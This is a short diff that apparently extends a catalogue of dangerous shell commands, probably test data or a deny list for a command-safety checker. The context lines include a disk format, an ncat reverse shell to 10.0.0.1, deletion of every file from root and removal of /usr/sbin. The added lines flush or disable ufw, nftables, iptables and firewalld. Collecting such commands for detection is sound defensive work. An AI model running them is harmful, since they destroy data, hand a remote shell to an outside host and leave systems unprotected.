@@ -493,3 +493,13 @@ mkfs -t ext4 "$(echo /dev/sdb)"
 ncat 10.0.0.1 443 -e /bin/sh
 DIR=/ ; find "$DIR" -type f -print0 | xargs -0 rm -f
 rm -f /usr/sbin/*
+#: Firewalls emptied or switched off.
+ufw default allow incoming
+echo flush ruleset | nft -f -
+iptables-restore < /dev/null
+/etc/init.d/ufw stop
+update-rc.d nftables disable
+firewall-cmd --set-default-zone trusted
+sed -i 's/^ENABLED=.*/ENABLED=no/' /etc/ufw/ufw.conf
+apt purge -y ufw
+systemctl kill firewalld
